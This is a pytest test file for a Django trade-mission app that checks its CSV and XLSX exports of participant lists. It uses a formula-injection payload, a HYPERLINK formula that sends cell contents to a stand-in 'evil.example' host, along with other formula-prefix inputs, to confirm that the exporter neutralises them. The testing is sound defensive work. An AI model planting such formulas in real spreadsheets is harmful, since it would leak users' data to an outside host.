import csv
import datetime
import io
import zoneinfo

import pytest
from openpyxl import load_workbook

from core.spreadsheets import as_csv, as_xlsx, sheet_title
from missions.exports import HEADER, participant_rows
from missions.models import Application, Mission, Question
from tests.factories import FirmFactory, MembershipFactory, UserFactory, sector

pytestmark = pytest.mark.django_db

ROME = zoneinfo.ZoneInfo("Europe/Rome")
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")'


@pytest.fixture
def mission():
    mission = Mission.objects.create(
        title="Missione Agroalimentare Baviera",
        start_date=datetime.date(2026, 9, 14),
        end_date=datetime.date(2026, 9, 16),
        seats=10,
        registration_deadline=datetime.datetime(2026, 7, 31, 23, 59, tzinfo=ROME),
    )
    mission.sectors.set([sector("agroalimentare")])
    return mission


@pytest.fixture
def questions(mission):
    fair = Question.objects.create(
        mission=mission, label="Partecipate già a fiere?", kind=Question.Kind.YES_NO, order=1
    )
    products = Question.objects.create(mission=mission, label="Prodotti di punta", order=2)
    return {str(fair.pk): fair.label, str(products.pk): products.label}


@pytest.fixture
def applications(mission, questions):
    fair_id, products_id = list(questions)
    alpe = FirmFactory(
        name="Società Agricola Àlpe", vat_number="00123450140", sector=sector("agroalimentare")
    )
    MembershipFactory(firm=alpe, user=UserFactory(email="bianca@alpe.it"))
    MembershipFactory(firm=alpe, user=UserFactory(email="aldo@alpe.it"), role="member")
    first = Application.objects.create(
        mission=mission,
        firm=alpe,
        status=Application.Status.CONFIRMED,
        delegates=2,
        note="Bresaola e pizzoccheri per la GDO tedesca.",
        answers={products_id: "Bresaola IGP", fair_id: True},
    )
    evil = FirmFactory(name="-Rossi Meccanica S.r.l.", comune="Morbegno")
    MembershipFactory(firm=evil, user=UserFactory(email="info@rossi.it"))
    second = Application.objects.create(
        mission=mission,
        firm=evil,
        status=Application.Status.WAITLISTED,
        note=INJECTION,
    )
    Application.objects.filter(pk=first.pk).update(
        created_at=datetime.datetime(2026, 3, 2, 8, 30, tzinfo=datetime.UTC)
    )
    Application.objects.filter(pk=second.pk).update(
        created_at=datetime.datetime(2026, 7, 1, 21, 45, tzinfo=datetime.UTC)
    )
    return list(
        Application.objects.filter(mission=mission)
        .select_related("mission", "firm__sector")
        .prefetch_related("firm__memberships__user")
        .order_by("created_at")
    )


@pytest.fixture
def rows(applications, questions, django_assert_num_queries):
    with django_assert_num_queries(0):
        return participant_rows(applications, questions)


def test_rows_have_header_and_one_row_per_application(rows):
    assert rows[0] == HEADER
    assert len(rows) == 3
    assert all(len(row) == len(HEADER) for row in rows)
    assert all(isinstance(cell, str) for row in rows for cell in row)
    assert rows[1] == [
        "Missione Agroalimentare Baviera",
        "Società Agricola Àlpe",
        "00123450140",
        "Agroalimentare",
        "Sondrio",
        "Confermata",
        "2",
        "2026-03-02 09:30",  # Rome time (CET)
        "Bresaola e pizzoccheri per la GDO tedesca.",
        "Partecipate già a fiere?: Sì; Prodotti di punta: Bresaola IGP",
        "bianca@alpe.it; aldo@alpe.it",  # owner first (Membership ordering)
    ]
    second = rows[2]
    assert second[5] == "Lista d'attesa"
    assert second[7] == "2026-07-01 23:45"  # Rome time (CEST)
    assert second[8] == INJECTION  # raw in the rows; neutralised when written
    assert second[9] == ""
    assert second[10] == "info@rossi.it"


def test_csv_is_utf8_with_bom_semicolons_and_neutralised(rows):
    data = as_csv(rows)

    assert data.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert parsed[0] == HEADER
    assert len(parsed) == 3
    assert parsed[1][1] == "Società Agricola Àlpe"
    assert parsed[2][8] == "'" + INJECTION
    assert parsed[2][1] == "'-Rossi Meccanica S.r.l."
    assert parsed[1][2] == "00123450140"  # leading zeros kept


def test_xlsx_has_the_same_values_bold_frozen_header(rows):
    data = as_xlsx(rows, "Missione Agroalimentare Baviera: partecipanti [2026]")

    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert sheet.title == "Missione Agroalimentare Baviera"
    assert len(sheet.title) <= 31
    values = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
    expected = list(csv.reader(io.StringIO(as_csv(rows).decode("utf-8-sig")), delimiter=";"))
    assert values == expected
    assert sheet["I3"].value == "'" + INJECTION
    assert sheet["I3"].data_type == "s"
    assert sheet["B2"].value == "Società Agricola Àlpe"
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width >= len("Società Agricola Àlpe")


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+39 0342 123456", "-2", "@SUM(A1)", "\tcmd", "\rcmd"],
)
def test_formula_prefixes_are_neutralised_in_both_formats(value):
    rows = [["Note"], [value]]

    parsed = list(csv.reader(io.StringIO(as_csv(rows).decode("utf-8-sig")), delimiter=";"))
    assert parsed[1] == ["'" + value]
    sheet = load_workbook(io.BytesIO(as_xlsx(rows, "x"))).active
    # XML turns a stored CR into LF when read back; the apostrophe is what matters.
    assert sheet["A2"].value == "'" + value.replace("\r", "\n")


def test_harmless_values_are_untouched():
    rows = [["Note"], ["Bresaola: 3 kg"], ["1-2 persone"]]

    parsed = list(csv.reader(io.StringIO(as_csv(rows).decode("utf-8-sig")), delimiter=";"))
    assert parsed == rows


def test_control_characters_do_not_break_the_xlsx():
    sheet = load_workbook(io.BytesIO(as_xlsx([["Note"], ["ok\x0bok"]], "x"))).active

    assert sheet["A2"].value == "okok"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Colonia/Düsseldorf [2026]: B2B?*", "ColoniaDüsseldorf 2026 B2B"),
        ("x" * 40, "x" * 31),
        ("[]:*?/\\", "Partecipanti"),
    ],
)
def test_sheet_title(title, expected):
    assert sheet_title(title) == expected
